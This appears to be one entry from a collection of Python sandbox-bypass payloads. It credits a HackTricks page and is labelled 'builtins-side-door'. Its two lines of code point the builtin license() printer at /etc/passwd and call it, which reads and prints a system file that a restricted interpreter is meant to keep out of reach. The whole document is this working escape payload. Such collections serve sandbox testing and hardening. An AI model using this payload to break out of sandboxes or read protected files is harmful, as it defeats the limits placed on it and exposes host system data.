# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (Read file with builtins help & license)
# Family: builtins-side-door
# What: license._Printer__filenames set to /etc/passwd, then license() prints it
license._Printer__filenames = ["/etc/passwd"]
license()
